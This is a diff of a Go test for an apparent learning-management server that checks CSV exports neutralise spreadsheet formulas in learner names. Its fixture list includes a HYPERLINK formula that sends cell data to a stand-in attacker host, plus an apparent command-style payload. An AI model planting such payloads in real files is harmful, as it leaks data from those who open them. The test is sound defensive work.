@@ -1,15 +1,12 @@
 package server_test
 
 import (
-	"context"
 	"net/http"
 	"strconv"
 	"strings"
 	"testing"
 
-	"github.com/upward-lms/upward/internal/learning"
-	"github.com/upward-lms/upward/internal/postgres"
-	"github.com/upward-lms/upward/internal/user"
+	"github.com/upward-lms/upward/internal/fixture"
 )
 
 // formulas are names a spreadsheet would run, opening a CSV export.
@@ -20,21 +17,17 @@ var formulas = []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `+1+cm
 // report and the audit log, and reads each CSV: no cell starts as a
 // formula, and each name is there, neutralised.
 func TestCSVExports_NeutraliseFormulas(t *testing.T) {
-	s, acme, _ := twoPortals(t)
-	ctx := context.Background()
-	rec := publishedExample(t, s, acme.ID)
-	by := postgres.AuditActor{Label: "test"}
-	var learnerID int64
-	for i, name := range formulas {
-		u, err := s.main.Users.EnsureUser(ctx, acme, postgres.NewUser{Email: "f" + strconv.Itoa(i) + "@acme.test", Name: name, Password: goodPassword, Roles: []user.Role{user.Learner}}, by)
-		if err != nil {
-			t.Fatal(err)
+	t.Parallel()
+	var learner string
+	s, acme, _ := twoPortals(t, withExample, func(acme, _ *fixture.Spec) {
+		for i, name := range formulas {
+			learner = "f" + strconv.Itoa(i) + "@acme.test"
+			acme.People = append(acme.People, fixture.Person{Email: learner, Name: name})
+			acme.Progress = append(acme.Progress, fixture.Progress{Who: learner, Course: fixture.ExampleSlug})
 		}
-		if _, err := postgres.NewLearningService(s.db).Enrol(ctx, acme.ID, u.ID, rec.ID, learning.SelfEnrolled); err != nil {
-			t.Fatal(err)
-		}
-		learnerID = u.ID
-	}
+		acme.People = append(acme.People, bossOfAcme)
+	})
+	rec, learnerID := acme.Courses[fixture.ExampleSlug], acme.Person(t, learner).ID
 	admin := adminClient(t, s)
 	// The administrator's own name is the actor in the audit log.
 	admin.get("/account")
